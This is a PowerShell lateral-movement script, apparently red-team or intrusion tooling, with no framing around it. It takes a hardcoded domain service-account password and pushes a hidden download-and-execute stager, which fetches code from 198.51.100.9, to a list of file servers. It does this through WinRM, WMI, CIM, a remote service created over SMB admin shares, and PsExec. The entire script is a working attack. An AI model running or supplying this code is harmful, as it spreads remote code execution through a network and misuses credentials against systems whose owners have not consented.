# Push the stager to the file servers with whatever the network allows.
$targets = Get-Content -Path "$env:TEMP\hosts.txt"
$stager = 'powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(''http://198.51.100.9/s'')"'

$pass = ConvertTo-SecureString 'Summer2024!' -AsPlainText -Force
$cred = New-Object System.Management.Automation.PSCredential('CORP\svc_backup', $pass)

foreach ($t in $targets) {
    # WinRM first
    Invoke-Command -ComputerName $t -Credential $cred -ScriptBlock {
        param($s)
        cmd.exe /c $s
    } -ArgumentList $stager -ErrorAction SilentlyContinue

    # WMI process create
    Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList $stager -ComputerName $t -Credential $cred | Out-Null
    Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = $stager } -ComputerName $t | Out-Null
}

# PsExec-style: copy a service binary over SMB and start it remotely
Copy-Item -Path "$env:TEMP\svc.exe" -Destination '\\FS02\ADMIN$\svc.exe' -Force
sc.exe \\FS02 create updsvc binPath= 'C:\Windows\svc.exe' start= demand
sc.exe \\FS02 start updsvc
.\PsExec64.exe \\FS03 -u CORP\svc_backup -p 'Summer2024!' -s -d cmd.exe /c $stager

$session = New-PSSession -ComputerName 'FS04' -Credential $cred
Invoke-Command -Session $session -ScriptBlock { Get-Process -Name sqlservr }
Remove-PSSession -Session $session
